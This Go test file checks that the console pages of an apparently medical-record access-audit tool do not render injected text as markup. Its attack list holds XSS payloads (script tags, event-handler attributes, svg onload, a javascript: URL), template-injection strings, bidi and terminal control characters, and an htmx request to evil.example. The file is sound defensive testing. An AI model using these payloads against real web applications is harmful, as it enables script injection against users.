package console_test

import (
	"errors"
	"net/url"
	"reflect"
	"strconv"
	"strings"
	"testing"

	"connectrpc.com/connect"
	"golang.org/x/net/html"
	protobuf "google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/reflect/protoreflect"

	"github.com/readtrail/readtrail/proto"
	v1 "github.com/readtrail/readtrail/proto/readtrail/v1"
)

// attacks are texts that an EMR can send in any field. Each carries its own mark, so that where it went can be seen.
var attacks = []string{
	`<script>alert("mark")</script>`,
	`"><img src=x onerror=alert("mark")>`,
	`' autofocus onfocus='alert("mark")`,
	`</title></textarea></pre><svg onload=alert("mark")>`,
	`javascript:alert("mark")`,
	`{{.Purpose}}${mark}<%= mark %>`,
	"mark\u202egnp.exe\u2066\u200b\x1b[2J\x00",
	`<a hx-get="//evil.example/mark" hx-trigger="load">mark</a>`,
}

// poison fills every string of a message, and of the messages in it, with an attack.
func poison(m protobuf.Message, attack string) {
	poisonReflect(m.ProtoReflect(), attack, 0)
}

func poisonReflect(m protoreflect.Message, attack string, depth int) {
	fields := m.Descriptor().Fields()
	for i := range fields.Len() {
		f := fields.Get(i)
		switch {
		case depth > 5 || f.IsMap():
		case f.IsList() && f.Kind() == protoreflect.StringKind:
			m.Mutable(f).List().Append(protoreflect.ValueOfString(attack))
		case f.IsList() && f.Kind() == protoreflect.MessageKind:
			poisonReflect(m.Mutable(f).List().AppendMutable().Message(), attack, depth+1)
		case f.IsList():
		case f.Kind() == protoreflect.StringKind:
			m.Set(f, protoreflect.ValueOfString(attack))
		case f.Kind() == protoreflect.MessageKind:
			poisonReflect(m.Mutable(f).Message(), attack, depth+1)
		case f.Kind() == protoreflect.Uint64Kind || f.Kind() == protoreflect.Sint64Kind || f.Kind() == protoreflect.BoolKind:
			m.Set(f, number(f.Kind()))
		}
	}
}

func number(k protoreflect.Kind) protoreflect.Value {
	switch k {
	case protoreflect.Uint64Kind:
		return protoreflect.ValueOfUint64(7)
	case protoreflect.BoolKind:
		return protoreflect.ValueOfBool(true)
	}
	return protoreflect.ValueOfInt64(1772438400_000000)
}

func poisoned[T any, P interface {
	*T
	protobuf.Message
}](attack string) *T {
	m := new(T)
	poison(P(m), attack)
	return m
}

// No text that a source sent becomes markup, an attribute, a script or an address, on any page; nor does it turn the
// direction of what stands around it.
func TestStoredScript(t *testing.T) {
	clean := pagesOf(t, "plain mark")
	for _, attack := range attacks {
		t.Run(attack[:12], func(t *testing.T) {
			for name, body := range pagesOf(t, attack) {
				if !strings.Contains(body, "mark") {
					t.Errorf("%s does not show the text at all: the test tests nothing", name)
				}
				// The same elements with the same attributes as with a plain text, and no other.
				if got, want := shapeOf(t, body), shapeOf(t, clean[name]); !reflect.DeepEqual(got, want) {
					t.Errorf("%s: the text changed the page's shape: %v", name, difference(got, want))
				}
				if strings.ContainsAny(body, "\u202e\u2066\u200b\x1b\x00") {
					t.Errorf("%s: control or format characters reach the page", name)
				}
			}
		})
	}
}

// pagesOf renders every page with a text in all of its fields.
func pagesOf(t *testing.T, text string) map[string]string {
	t.Helper()
	s := newSite(t)
	s.api.record, s.api.reader = poisoned[v1.WhoViewedResponse](text), poisoned[v1.ReaderActivityResponse](text)
	s.api.profile = poisoned[v1.ReaderProfileResponse](text)
	s.api.event, s.api.found = poisoned[v1.GetEventResponse](text), poisoned[v1.SearchAccessesResponse](text)
	s.api.sources, s.api.status = poisoned[v1.ListSourcesResponse](text), poisoned[v1.GetStatusResponse](text)
	s.api.dead, s.api.letter = poisoned[v1.ListDeadLettersResponse](text), poisoned[v1.GetDeadLetterResponse](text)
	s.api.queue, s.api.alert = poisoned[v1.ListAlertsResponse](text), poisoned[v1.GetAlertResponse](text)
	s.api.scope, s.api.report = poisoned[v1.BreachScopeResponse](text), poisoned[v1.AccessReportResponse](text)
	s.api.frozen, s.api.compared = poisoned[v1.VerifyScopeResponse](text), poisoned[v1.CompareScopesResponse](text)
	s.api.cases, s.api.one = poisoned[v1.ListCasesResponse](text), poisoned[v1.GetCaseResponse](text)
	s.api.one.Case.Status = v1.CaseStatus_CASE_STATUS_OPEN
	for _, body := range caseBodies(text) {
		s.api.one.Steps = append(s.api.one.Steps, &v1.CaseStep{Entry: body})
	}
	s.api.put = poisoned[v1.MyQuestionsResponse](text)
	s.api.list = poisoned[v1.ListFrozenScopesResponse](text)
	s.api.alert.Alert.Day = "2026-03-01" // a timeline is drawn of a day that there is
	s.api.event.Original, s.api.letter.Original = []byte(text), []byte(text)
	candidates := s.api.record.Candidates
	b := s.signedIn(proto.RoleAdministrator)
	typed := strings.Map(func(r rune) rune { // what is typed reaches the page in the form, and the API refuses control characters
		if r < ' ' {
			return -1
		}
		return r
	}, text)
	pages := map[string]string{}
	keep := func(name string, form url.Values) string {
		path, page := b.open(form)
		pages[name] = page.body
		return path
	}
	keep("candidates", url.Values{"q": {typed}, "kind": {"records"}, "purpose": {typed}})
	s.api.record.Candidates, s.api.reader.Candidates = nil, nil
	keep("record", url.Values{"q": {typed}, "kind": {"records"}, "purpose": {typed}})
	keep("reader", url.Values{"q": {typed}, "kind": {"readers"}, "purpose": {typed}})
	profile, page := b.openProfile(typed, typed)
	pages["profile candidates"], s.api.profile.Candidates = page.body, nil
	pages["profile"] = b.get(profile).body
	event := keep("event", url.Values{"q": {typed}, "kind": {"events"}, "purpose": {typed}})
	pages["original"] = b.get(event + "?original").body
	keep("accesses", url.Values{"q": {typed}, "kind": {"name"}, "purpose": {typed}})
	s.api.record.Candidates = candidates
	keep("find", url.Values{"q": {"mark " + typed}, "kind": {""}, "purpose": {typed}})
	keep("purpose", url.Values{"q": {"another " + typed}, "kind": {"records"}})
	pages["home"] = b.get("/").body
	pages["refused"] = b.post("/ask", url.Values{"q": {typed}, "purpose": {typed + strings.Repeat("x", 500)}}).body
	pages["sources"], pages["status"], pages["dead letters"] = b.get("/sources").body, b.get("/status").body, b.get("/dead-letters").body
	_, after, _ := strings.Cut(pages["dead letters"], `"/dead-letters/`)
	handle, _, _ := strings.Cut(after, `"`)
	b.post("/purpose/dead-letters/"+handle, url.Values{"purpose": {typed}})
	pages["dead letter"] = b.get("/dead-letters/" + handle).body
	s.api.record.Candidates = nil
	alertPages(s, b, typed, pages)
	casePages(s, b, typed, pages)
	questionPages(s, b, typed, pages)
	scopePages(s, b, typed, pages)
	return pages
}

// alertPages renders the queue, with names and without, and an alert in every part of which the text stands.
func alertPages(s *site, b *browser, typed string, pages map[string]string) {
	pages["queue"] = b.get("/alerts?scenario=" + url.QueryEscape(typed) + "&queue=" + url.QueryEscape(typed)).body
	b.post("/alerts", url.Values{"purpose": {typed}})
	pages["queue by names"] = b.get("/alerts").body
	_, after, _ := strings.Cut(pages["queue by names"], `href="/alerts/`)
	handle, _, _ := strings.Cut(after, `"`)
	pages["alert"] = b.get("/alerts/" + handle).body
	s.api.refuses = connect.NewError(connect.CodeAborted, errors.New(typed))
	b.post("/alerts/"+handle+"/decide", url.Values{"as": {"misuse"}, "version": {"7"}, "comment": {typed}})
	pages["not decided"] = b.get("/alerts").body
}

// caseBodies are steps of every kind, each with the text wherever one can stand.
func caseBodies(text string) (out []*v1.CaseEntry) {
	bodies := (&v1.CaseEntry{}).ProtoReflect().Descriptor().Oneofs().ByName("body").Fields()
	for i := range bodies.Len() {
		e := &v1.CaseEntry{Asker: text, Role: text}
		poisonReflect(e.ProtoReflect().Mutable(bodies.Get(i)).Message(), text, 0)
		out = append(out, e)
	}
	return out
}

// casePages renders the list of cases, with titles and without, and a case in every part of which the text stands.
func casePages(s *site, b *browser, typed string, pages map[string]string) {
	s.api.refuses = nil
	b.post("/cases", url.Values{"hide": {"1"}})
	pages["cases refused"] = b.post("/cases", url.Values{"purpose": {typed + strings.Repeat("x", 500)}}).body
	b.post("/cases", url.Values{"purpose": {typed}})
	pages["cases"] = b.get("/cases").body
	path := b.casePath()
	pages["case"] = b.get(path).body
	s.api.refuses = connect.NewError(connect.CodeAborted, errors.New(typed))
	b.post(path+"/step", url.Values{"step": {"note"}, "version": {"7"}, "text": {typed}})
	pages["not written"] = b.get(path).body
	form := url.Values{"version": {"7"}}
	for _, field := range []string{"name", "text", "to", "assignee", "factor-1", "factor-4", "people", "due", "held", "rule"} {
		form.Set(field, typed)
	}
	for _, step := range []string{"ask", "assess", "notice", "assign", "close", "hold"} { // a hold of no known kind has no form
		form.Set("step", step)
		b.post(path+"/step", form)
		pages["not written: "+step] = b.get(path).body
	}
	s.api.refuses = nil
}

// questionPages renders what somebody is asked, and an answer that was not taken, with the list and without.
func questionPages(s *site, b *browser, typed string, pages map[string]string) {
	pages["questions"] = b.get("/questions").body
	s.api.refuses = connect.NewError(connect.CodeFailedPrecondition, errors.New(typed))
	answer := url.Values{"question": {"another " + typed}, "text": {typed}}
	pages["not taken"] = b.post("/questions", answer).body
	for _, closed := range []bool{true, false} {
		s.api.put.Questions[0].Question, s.api.put.Questions[0].Closed = "49152", closed
		answer.Set("question", "49152")
		pages["not taken, closed "+strconv.FormatBool(closed)] = b.post("/questions", answer).body
	}
	s.api.unlisted = connect.NewError(connect.CodeUnavailable, errors.New(typed))
	pages["not taken, no list"] = b.post("/questions", answer).body
	s.api.refuses, s.api.unlisted = nil, nil
}

// scopePages renders the breach scope, what became of it, and the patient's report.
func scopePages(s *site, b *browser, typed string, pages map[string]string) {
	form := url.Values{
		"purpose": {typed}, "reader": {typed}, "account": {typed}, "workstation": {typed}, "object": {typed}, "patient": {typed}, "position": {"7"}, "before": {"7"},
	}
	pages["scope refused"] = b.post("/scope", url.Values{"reader": {typed}, "workstation": {typed}}).body
	path := b.post("/scope", form).location
	pages["scope candidates"] = b.get(path).body
	s.api.scope.Candidates = nil
	pages["scope"], pages["scope to print"] = b.get(path).body, b.get(path+"/print").body
	pages["comparison"] = b.get(b.post(path+"/compare", form).location).body
	pages["frozen"] = b.get(b.post("/frozen", form).location).body
	pages["frozen scopes"] = b.get(b.post("/frozen", url.Values{"purpose": {typed}}).location).body
	report := b.post("/report", form).location
	pages["report candidates"] = b.get(report).body
	s.api.report.Candidates = nil
	s.api.report.NextPageToken = ""
	pages["report"] = b.get(report).body
	pages["report refused"] = b.post("/report", url.Values{"patient": {typed}}).body
}

// shapeOf lists elements with the names of their attributes, and the addresses that lead elsewhere.
func shapeOf(t *testing.T, body string) []string {
	t.Helper()
	var shape []string
	z := html.NewTokenizer(strings.NewReader(body))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return shape
		case html.StartTagToken, html.SelfClosingTagToken:
			token := z.Token()
			line := token.Data
			for _, a := range token.Attr {
				line += " " + a.Key
				switch a.Key {
				case "href", "src", "action", "hx-get":
					if !strings.HasPrefix(a.Val, "/") && a.Val != "#main" || strings.HasPrefix(a.Val, "//") {
						line += "=" + a.Val
					}
				}
			}
			shape = append(shape, line)
		}
	}
}

func difference(got, want []string) []string {
	var out []string
	for i, line := range got {
		if i >= len(want) || want[i] != line {
			return append(out, got[i:min(i+3, len(got))]...)
		}
	}
	return out
}
